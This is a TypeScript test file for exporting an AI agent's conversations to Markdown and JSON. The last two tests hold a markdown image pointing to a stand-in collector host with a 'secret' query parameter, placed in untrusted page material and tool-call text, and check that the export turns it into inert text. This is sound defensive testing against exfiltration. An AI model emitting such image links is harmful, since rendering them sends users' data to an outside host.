import { expect, onTestFinished, test } from 'vitest';
import { testTurn } from '../testing/agent.ts';
import { openTestStore } from '../testing/stores.ts';
import { ConversationArchive } from './archive.ts';
import { Conversations } from './conversations.ts';
import { toJson, toMarkdown } from './export.ts';
import { callsStep, resultStep } from './stored-calls.ts';
import type { Step } from './types.ts';

const now = () => new Date('2026-01-15T09:00:00.000Z');

/** A conversation with one turn of these steps. */
async function told(...steps: Step[]): Promise<ConversationArchive> {
  const store = await openTestStore();
  onTestFinished(() => store.close());
  const conversations = new Conversations(store);
  const turn = testTurn('How deep?', { id: 'turn_1' });
  const open = await conversations.begin(turn, now);
  for (const step of steps) await open.append(step);
  await conversations.finish(turn, { text: 'Nine metres.', stop: 'answered' }, now());
  return new ConversationArchive(store);
}

test('as Markdown a conversation is a document, with every call, result, script and what that gave', async () => {
  const saved = await told(
    callsStep('Looking.', [
      { id: 'a', name: 'query_rag', args: { query: 'depth' } },
      { id: 'b', name: 'late', args: {} },
    ]),
    resultStep({ id: 'a', name: 'query_rag', ok: true, text: 'see ```chart```' }),
    resultStep({ id: 'b', name: 'late', ok: false, text: 'no' }),
    callsStep('', [{ id: 'c', name: 'notify', args: {} }]),
    { role: 'assistant', kind: 'code', content: 'add(1, 2)' },
    { role: 'user', kind: 'feedback', content: '3' },
  );
  expect(await toMarkdown(saved, 'conv_1')).toBe(`# How deep?

Conversation conv_1, project home, begun 2026-01-15T09:00:00.000Z, completed.

## You (2026-01-15T09:00:00.000Z)

How deep?

Looking.

- \`query_rag\` \` {"query":"depth"} \`
- \`late\` \` {} \`

Result of \`query_rag\`:

\`\`\`\`
see \`\`\`chart\`\`\`
\`\`\`\`

Failure of \`late\`:

\`\`\`
no
\`\`\`

- \`notify\` \` {} \`

\`\`\`js
add(1, 2)
\`\`\`

Result of the script:

\`\`\`
3
\`\`\`

## Wooster (2026-01-15T09:00:00.000Z)

Nine metres.
`);
});

test('as JSON it has all of it, with calls and results as values', async () => {
  const calls = [{ id: 'a', name: 'query_rag', args: { query: 'depth' } }];
  const result = { id: 'a', name: 'query_rag', ok: true, text: 'nine' };
  const saved = await told(callsStep('', calls), resultStep(result), {
    role: 'assistant',
    kind: 'code',
    content: '{}',
  });
  const at = '2026-01-15T09:00:00.000Z';
  const row = { turnId: 'turn_1', at };
  expect(await toJson(saved, 'conv_1')).toEqual({
    ...{ id: 'conv_1', title: 'How deep?', project: 'home', status: 'completed', createdAt: at, updatedAt: at },
    messages: [
      { ...row, sequence: 1, role: 'user', kind: 'text', content: 'How deep?' },
      { ...row, sequence: 2, role: 'assistant', kind: 'tool_calls', content: { text: '', calls } },
      { ...row, sequence: 3, role: 'tool', kind: 'tool_result', content: result },
      { ...row, sequence: 4, role: 'assistant', kind: 'code', content: '{}' },
      { ...row, sequence: 5, role: 'assistant', kind: 'answer', content: 'Nine metres.' },
    ],
  });
});

test('without a title its id stands for it', async () => {
  const saved = await told();
  await saved.rename('conv_1', 'Harbour');
  expect(await toMarkdown(saved, 'conv_1')).toMatch(/^# Harbour\n/u);
  await expect(toJson(saved, 'conv_9')).rejects.toMatchObject({ code: 'unknown_conversation' });
});

test('what came along with a request is no link and no image either; what the owner typed stays', async () => {
  const store = await openTestStore();
  onTestFinished(() => store.close());
  const material = [{ name: 'page.html', text: '![x](https://collector.example/?d=secret)', untrusted: true }];
  await new Conversations(store).begin(testTurn('See https://mine.example/a.', { material }), now);
  const text = await toMarkdown(new ConversationArchive(store), 'conv_1');
  expect(text).toContain('See https://mine.example/a.');
  expect(text).toContain('x (collector.example/?d=secret)');
});

test('what others may have written into a call is no link and no image in the document', async () => {
  const image = '![x](https://collector.example/?d=secret)';
  const saved = await told(
    callsStep(`I look. ${image}`, [{ id: 'a', name: 'write_note', args: { text: `a \`\` b ${image}` } }]),
    resultStep({ id: 'a', name: 'write_note', ok: true, text: image }),
  );
  const text = await toMarkdown(saved, 'conv_1');
  expect(text).toContain('I look. x (collector.example/?d=secret)');
  expect(text).toContain(`\`\`\` {"text":"a \`\` b ${image}"} \`\`\``);
  expect(text).toContain(`\`\`\`\n${image}\n\`\`\``);
});
